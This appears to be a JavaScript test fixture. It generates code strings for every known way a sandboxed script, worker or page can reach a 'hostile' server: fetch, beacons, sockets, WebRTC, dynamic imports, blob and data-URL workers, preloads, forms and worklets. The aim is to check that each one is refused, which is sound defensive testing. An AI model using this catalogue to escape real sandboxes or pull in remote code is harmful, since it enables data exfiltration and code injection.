/**
 * Every way that a script is known to have of reaching a server, as the body of an async function; the ways in which a
 * cell may fetch code are among them. Each throws, or never settles, where it is refused.
 * @param {{ url: string, tcp: string, udp: string }} hostile
 * @returns {Record<string, string>} what it tries → code
 */
export function networkAttempts({ url, tcp, udp }) {
  const at = (path) => JSON.stringify(`${url}/${path}`);
  const socket = (scheme, where) => JSON.stringify(`${scheme}://${where}/x`);
  const opened = (make, events = ["open", "error"]) =>
    `const it = ${make}; await new Promise((done, fail) => { it.on${events[0]} = done; it.on${events[1]} = fail; });`;
  const worker = (address) =>
    `const it = new Worker(${address}); await new Promise((done, fail) => { it.onmessage = done; it.onerror = fail; });`;
  const script = `fetch(${at("nested")}, { mode: "no-cors" }).then(() => postMessage(1))`;
  return {
    fetch: `await fetch(${at("fetch")})`,
    "fetch without CORS": `await fetch(${at("no-cors")}, { mode: "no-cors" })`,
    "fetch that outlives the page": `await fetch(${at("keepalive")}, { method: "POST", body: "x", keepalive: true, mode: "no-cors" })`,
    "fetch of another scheme": `await fetch(${socket("https", tcp)})`,
    fetchLater: `fetchLater(${at("later")}, { activateAfter: 0 })`,
    "XMLHttpRequest at once": `const it = new XMLHttpRequest(); it.open("GET", ${at("xhr-sync")}, false); it.send()`,
    XMLHttpRequest: `${opened("new XMLHttpRequest()", ["load", "error"]).replace("await", `it.open("GET", ${at("xhr")}); it.send(); await`)}`,
    WebSocket: opened(`new WebSocket(${at("socket").replace("http", "ws")})`),
    "WebSocket by TLS": opened(`new WebSocket(${socket("wss", tcp)})`),
    WebSocketStream: `await new WebSocketStream(${at("socket-stream").replace("http", "ws")}).opened`,
    EventSource: opened(`new EventSource(${at("events")})`),
    WebTransport: `await new WebTransport(${socket("https", udp)}).ready`,
    sendBeacon: `if (!navigator.sendBeacon(${at("beacon")}, "x")) throw new Error("refused")`,
    importScripts: `importScripts(${at("scripts.js")})`,
    "import()": `await new Function("return import(" + ${JSON.stringify(at("module.js"))} + ")")()`,
    "import() of text": `await new Function("return import('data:text/javascript,export default 1')")()`,
    FontFace: `await new FontFace("x", "url(" + ${at("font.woff2")} + ")").load()`,
    "the cell's fonts": `fonts.add(await new FontFace("x", "url(" + ${at("font2.woff2")} + ")").load())`,
    "a worker of that server": worker(at("worker.js")),
    "a worker of a data: address": worker(
      JSON.stringify(`data:text/javascript,${encodeURIComponent(script)}`),
    ),
    "a worker of a blob": worker(
      `URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: "text/javascript" }))`,
    ),
    "a module worker": `const it = new Worker(${at("worker-module.js")}, { type: "module" }); await new Promise((done, fail) => { it.onmessage = done; it.onerror = fail; });`,
    "a shared worker": `const it = new SharedWorker(${at("shared.js")}); await new Promise((done, fail) => { it.port.onmessage = done; it.onerror = fail; });`,
    "a service worker": `await navigator.serviceWorker.register(${at("sw.js")})`,
    "a push subscription": `await (await navigator.serviceWorker.ready).pushManager.subscribe()`,
    WebRTC: `const it = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(`stun:${udp}`)} }] });
      it.createDataChannel("x"); await it.setLocalDescription(await it.createOffer());
      await new Promise((done) => { it.onicecandidate = ({ candidate }) => candidate?.type === "srflx" && done(); });`,
    "a notification's picture": `new Notification("x", { icon: ${at("icon.svg")} }); throw new Error("shown, perhaps")`,
    "the address of the place itself": `location.href = ${at("navigated")}; throw new Error("not a page")`,
    "another realm's fetch": `await Reflect.construct(Function, ["return fetch(" + ${JSON.stringify(at("realm"))} + ")"])()`,
    "the prototype's fetch": `await Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch(${at("prototype")})`,
    "WebAssembly from that server": `await WebAssembly.instantiateStreaming(fetch(${at("x.wasm")}))`,
  };
}

/**
 * Ways to the network that only a page has; in a worker they are refused for want of a document.
 * @param {{ url: string, tcp: string }} hostile
 * @returns {Record<string, string>}
 */
export function pageAttempts({ url, tcp }) {
  const at = (path) => JSON.stringify(`${url}/${path}`);
  const element = (tag, properties) =>
    `const it = Object.assign(document.createElement(${JSON.stringify(tag)}), ${properties}); document.body.append(it);
      await new Promise((done, fail) => { it.onload = done; it.onerror = fail; });`;
  const link = (rel, path, more = "") => element("link", `{ rel: "${rel}", href: ${at(path)}${more} }`);
  return {
    "a picture": `const it = new Image(); it.src = ${at("picture.svg")}; await it.decode()`,
    "a style sheet": link("stylesheet", "style.css"),
    "a style's picture": `document.body.style.background = "url(" + ${at("background.svg")} + ")"; throw new Error("not told")`,
    "a fetch ahead": link("prefetch", "prefetch.js"),
    "a page loaded ahead": link("prerender", "prerender"),
    "a module loaded ahead": link("modulepreload", "modulepreload.js"),
    "a font loaded ahead": link("preload", "preload.woff2", ', as: "font", crossOrigin: ""'),
    "a connection ahead": element("link", `{ rel: "preconnect", href: "http://${tcp}/" }`),
    "a manifest": link("manifest", "manifest.json"),
    "an icon": link("icon", "favicon.svg"),
    "a script": element("script", `{ src: ${at("script.js")} }`),
    "a frame": `${element("iframe", `{ src: ${at("frame")} }`)} throw new Error("a refused frame loads, too")`,
    "an object": element("object", `{ data: ${at("object.svg")} }`),
    "a film": `const it = Object.assign(document.createElement("video"), { src: ${at("film.mp4")} }); await it.play()`,
    "a form": `const it = Object.assign(document.createElement("form"), { action: ${at("form")}, method: "post" });
      document.body.append(it); it.submit(); throw new Error("not told")`,
    "a window": `if (!window.open(${at("window")})) throw new Error("refused")`,
    "an SVG's picture": `const it = document.createElementNS("http://www.w3.org/2000/svg", "image");
      it.setAttribute("href", ${at("svg-image.svg")}); document.body.append(it);
      await new Promise((done, fail) => { it.onload = done; it.onerror = fail; });`,
    "a rule that imports": `const it = new CSSStyleSheet(); await it.replace("@import url(" + ${at("imported.css")} + ")"); throw new Error("not told")`,
    "a worklet": `await CSS.paintWorklet.addModule(${at("worklet.js")})`,
    "an audio worklet": `await new AudioContext().audioWorklet.addModule(${at("audio.js")})`,
    "rules of speculation": element(
      "script",
      `{ type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [${at("speculated")}] }] }) }`,
    ),
  };
}
